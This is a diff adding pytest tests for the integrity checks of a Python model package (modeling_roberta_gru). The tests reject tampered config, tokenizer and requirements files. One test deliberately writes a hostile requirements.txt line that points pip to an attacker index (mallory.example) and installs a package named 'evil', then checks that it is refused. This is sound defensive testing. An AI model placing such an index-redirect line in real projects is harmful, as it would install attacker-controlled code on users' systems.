@@ -16,6 +16,7 @@ import modeling_roberta_gru
 from modeling_roberta_gru import RobertaGRUForSequenceClassification
 from modeling_roberta_gru.cli import app
 from modeling_roberta_gru.errors import InputError
+from modeling_roberta_gru.files import carried
 from modeling_roberta_gru.hub.check import check_model, predict_in_clean_process
 from modeling_roberta_gru.training.loading import load_classifier, read_tokenizer
 from modeling_roberta_gru.trust import check_code, remove_foreign_code
@@ -289,6 +290,30 @@ def test_one_changed_byte_of_our_code_is_refused(name, ours, tmp_path) -> None:
     for refuse in (check_model, lambda folder: predict_in_clean_process(folder, ["text"])):
         with pytest.raises(InputError, match=f"{name} is not the file of this version"):
             refuse(folder)
+
+
+def test_what_an_endpoint_would_install_is_ours(ours, tmp_path) -> None:
+    folder = Path(shutil.copytree(ours, tmp_path / "model"))
+    shutil.copy(carried("model_card/requirements.txt"), folder)
+    check_code(folder)
+    (folder / "requirements.txt").write_text("--index-url https://mallory.example\nevil\n")
+    with pytest.raises(InputError, match=r"requirements\.txt is not the file of this version"):
+        check_model(folder)
+
+
+@pytest.mark.parametrize("auto_map", [None, [], 7])
+def test_an_auto_map_of_another_kind_is_one_line(auto_map, ours, tmp_path) -> None:
+    folder = Path(shutil.copytree(ours, tmp_path / "model"))
+    edit(folder / "config.json", auto_map=auto_map)
+    with pytest.raises(InputError, match=r"config\.json: `auto_map` is"):
+        check_model(folder)
+
+
+@pytest.mark.parametrize("length", [256, 5000])
+def test_a_name_too_long_for_a_file_is_no_file_of_a_tokenizer(length, stand_in, tmp_path) -> None:
+    folder = Path(shutil.copytree(stand_in, tmp_path / "base"))
+    edit(folder / "tokenizer_config.json", vocab_file="a" * length)
+    read_tokenizer(str(folder))
 
 
 def test_what_is_ours_is_left_as_it_is(ours, tmp_path) -> None:
